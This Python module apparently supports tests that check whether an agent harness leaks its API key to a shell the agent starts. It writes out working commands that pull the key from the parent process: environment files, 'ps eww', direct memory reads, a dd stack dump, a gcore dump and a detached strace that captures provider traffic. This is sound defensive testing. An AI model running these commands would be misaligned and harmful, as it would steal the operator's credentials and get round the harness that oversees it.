"""Ways to a key that a program may try from a shell that an agent has started.

Each prints the key if it finds it. None of them names it: they look for its form.
"""

from __future__ import annotations

import shutil

FORM = "sk-ant-[0-9a-f]{32}"
"""What a key of these tests looks like."""

_MEMORY = """
import re
for line in open(f"/proc/{parent}/maps"):
    span, rights = line.split()[:2]
    start, end = (int(part, 16) for part in span.split("-"))
    if "r" in rights and "[v" not in line:
        try:
            found |= set(re.findall(rb"FORM", read(start, end - start)))
        except OSError:
            pass
print(found)
""".replace("FORM", FORM)

_MEM = f"""
import os
parent, found = os.getppid(), set()
memory = os.open(f"/proc/{{parent}}/mem", os.O_RDONLY)
read = lambda start, size: os.pread(memory, size, start)
{_MEMORY}
"""

_VM_READ = f"""
import ctypes, os
parent, found = os.getppid(), set()
libc = ctypes.CDLL(None, use_errno=True)
class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def read(start, size):
    into = ctypes.create_string_buffer(size)
    here, there = Span(ctypes.addressof(into), size), Span(start, size)
    got = libc.process_vm_readv(parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return into.raw[:max(got, 0)]
{_MEMORY}
"""

_DD = f"""
while read -r span rights _ _ _ name; do
  [ "$name" = "[stack]" ] || continue
  start=$((16#${{span%-*}})); end=$((16#${{span#*-}}))
  dd if=/proc/$PPID/mem bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096))
done < /proc/$PPID/maps | grep -Eao '{FORM}'
"""


def _python(code: str) -> str:
    # `exec`: as a child of the shell, it would have the shell as its parent.
    return f"exec $PYTHON -c '{code}'"


WAYS = {
    "the environment of the server": "cat /proc/$PPID/environ",
    "the same, line by line": "tr '\\0' '\\n' < /proc/$PPID/environ",
    "the environment of its threads": "cat /proc/$PPID/task/*/environ",
    "what ps shows of it": "ps eww -p $PPID",
    "what ps shows of all": f"ps axeww | grep -Eo '{FORM}'",
    "the environment of every process": f"grep -Eaoh '{FORM}' /proc/[0-9]*/environ",
    "its memory": _python(_MEM),
    "its memory through a system call": _python(_VM_READ),
    "its stack by dd": _DD,
}
"""By name. A process that does nothing against it loses its key by each of these."""

IN_VAIN = {
    "its own environment": "env; set; cat /proc/self/environ",
    "the command line": "tr '\\0' ' ' < /proc/$PPID/cmdline",
    "files that are open": (
        'for file in /proc/$PPID/fd/*; do [ -f "$file" ] && head -c 100000 "$file"; done'
    ),
    "files of the agent": f"grep -Eraoh '{FORM}' .",
    "files at home": f'grep -Eraoh "{FORM}" "$HOME"',
}
"""Ways that lead nowhere as it is, and should go on to."""

DEBUGGERS = {
    "gdb": f"gcore -o core $PPID > gcore.log; grep -Eao '{FORM}' core.$PPID; rm -f core.$PPID",
    # It outlives the call, and sees what is sent to the provider after it.
    "strace": (
        "setsid strace -f -s 5000 -o trace -p $PPID > strace.log 2>&1 & tracer=$!; "
        "until grep -Eq 'attached|not permitted' strace.log; do kill -0 $tracer || break; done"
    ),
}
"""By the program that is needed, what it can do."""


def installed(program: str) -> bool:
    return shutil.which(program) is not None
